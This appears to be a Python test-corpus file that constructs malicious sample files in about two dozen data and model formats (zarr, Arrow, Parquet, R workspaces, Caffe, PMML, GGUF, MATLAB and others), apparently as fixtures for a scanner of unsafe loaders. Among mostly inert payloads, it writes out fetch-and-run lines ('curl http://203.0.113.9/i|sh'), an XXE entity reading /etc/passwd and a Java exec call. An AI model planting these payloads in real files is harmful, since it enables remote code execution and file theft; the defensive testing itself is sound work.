"""Further ways in through data: formats beside the common ones, each with its own loader that trusts it."""

# ruff: noqa: E501 - one file is read as one line

import gzip
import struct

from tests.corpus.archive_writer import tar_file, zip_file
from tests.corpus.assembler import SHELL, shell
from tests.corpus.further import CALL, ZARRAY, W, arrow, as_json, evil, parquet, rds
from tests.corpus.gguf_writer import STRING
from tests.corpus.repository_samples import ELF

SAMPLES = (
    evil(
        "zarr-pickle-filter",
        {"w/.zarray": as_json({**ZARRAY, "filters": [{"id": "pickle"}]}), "w/0": shell()},
        "A zarr array of objects, as pickles.",
    ),
    evil(
        "zarr-v3-pickle",
        {"w/zarr.json": as_json({"zarr_format": 3, "codecs": [{"name": "numcodecs.pickle"}]}), "w/c/0": shell()},
        "The same in version 3.",
    ),
    evil(
        "arrow-extension",
        {"d.arrow": arrow({"ARROW:extension:name": b"arrow.py_extension_type", "ARROW:extension:metadata": shell()})},
        "A type of Arrow that is a pickle.",
        "CVE-2023-47248",
    ),
    evil(
        "parquet-extension",
        {"d.parquet": parquet(b"ARROW:extension:name\x18\x17arrow.py_extension_type\x18" + shell())},
        "The same in Parquet.",
        "CVE-2023-47248",
    ),
    evil("parquet-pandas-object", {"d.parquet": parquet(b"pandas" + shell())}, "A pickle in the footer."),
    evil(
        "sqlite-pickle",
        {"cache.db": b"SQLite format 3\0" + bytes(84) + shell() + bytes(400)},
        "A cache whose values are pickles.",
    ),
    evil("shelve", {"index.db": b"\x00\x13\x57\x9a" + bytes(60) + shell()}, "A shelf."),
    evil("faiss-docstore", {"index.faiss": b"IxFI" + bytes(64), "index.pkl": shell()}, "A vector store's documents."),
    evil(
        "lmdb",
        {"data.mdb": bytes(16) + b"\xde\xc0\xef\xbe" + bytes(76) + shell()},
        "A database whose values are pickles.",
    ),
    evil(
        "webdataset-member",
        {"shard.tar": tar_file([("0.txt", b"x"), ("0.pyd", shell())])},
        "A sample of a web dataset that is decoded as a pickle.",
    ),
    evil(
        "tfrecord-pickle",
        {"d.tfrecord": struct.pack("<Q", len(SHELL)) + bytes(4) + SHELL + bytes(4)},
        "A record that is a pickle.",
    ),
    evil(
        "msgpack-ext",
        {"flax_model.msgpack": b"\x81\xa1w\xc7" + bytes([len(SHELL)]) + b"\x01" + SHELL},
        "An extension type of MessagePack that holds a pickle.",
    ),
    evil("rds-system", {"model.rds": rds("system('echo inert')")}, "An R object with a call."),
    evil(
        "rdata-eval",
        {
            "model.RData": gzip.compress(
                b"RDX3\nX\n" + bytes(12) + b"eval\0parse\0system\0curl http://203.0.113.9/i|sh", mtime=0
            )
        },
        "An R workspace.",
    ),
    evil(
        "torch7-lua",
        {"model.t7": struct.pack("<ii", 3, 1) + b"\x04\0\0\0" + struct.pack("<i", 22) + b"os.execute('echo inert')"},
        "Lua in a Torch 7 file.",
    ),
    evil(
        "mxnet-custom",
        {
            "m-symbol.json": as_json(
                {
                    "nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "evil", "lib_path": "../x.so"}}],
                    "arg_nodes": [],
                    "heads": [],
                }
            )
        },
        "A custom operator of MXNet and its library.",
    ),
    evil(
        "caffe-python",
        {
            "deploy.prototxt": 'name: "n"\nlayer {\n  name: "x"\n  type: "Python"\n  python_param {\n    module: "os"\n    layer: "system"\n    param_str: "echo inert"\n  }\n}\n'
        },
        "A layer of Caffe in Python.",
    ),
    evil(
        "pmml-extension",
        {
            "m.pmml": '<PMML version="4.4"><Header/><Extension name="script" value="java.lang.Runtime.getRuntime().exec(&quot;id&quot;)"/></PMML>'
        },
        "PMML with a call in an extension.",
    ),
    evil(
        "pmml-entity",
        {
            "m.pmml": '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&x;"/></PMML>'
        },
        "PMML with an external entity.",
        "CWE-611",
    ),
    evil(
        "paddle-params",
        {"inference.pdparams": shell(), "inference.pdmodel": b"\x0a\x04test"},
        "Parameters of PaddlePaddle are a pickle.",
    ),
    evil(
        "mindspore-so",
        {"custom_aot.so": ELF, "net.mindir": b"\x0a\x030.1" + bytes(60)},
        "A custom operator beside a MindIR.",
    ),
    evil("tensorrt-plugin", {"model.engine": b"ptrt" + bytes(60) + ELF}, "An engine with a program in it."),
    evil(
        "ggml-old",
        {"ggml-model.bin": b"tjgg" + struct.pack("<i", 3) + bytes(40) + CALL},
        "An old format of llama.cpp with a call in it.",
    ),
    evil(
        "gguf-remote-url",
        {
            "m.gguf": W.file(
                [
                    W.pair("general.architecture", STRING, "llama"),
                    W.pair("general.source.url", STRING, "javascript:fetch('http://203.0.113.9')"),
                ]
            )
        },
        "An address that runs.",
    ),
    evil(
        "npz-of-npz",
        {"w.npz": zip_file({"a.npy": zip_file({"b.pkl": CALL})})},
        "An archive where an array is expected.",
    ),
    evil(
        "mat-function",
        {
            "w.mat": b"MATLAB 5.0 MAT-file, function handle".ljust(116)
            + bytes(8)
            + struct.pack("<HH", 0x0100, 0x4D49)
            + b"@()system('curl http://203.0.113.9/i|sh')"
        },
        "A function handle of MATLAB.",
    ),
)
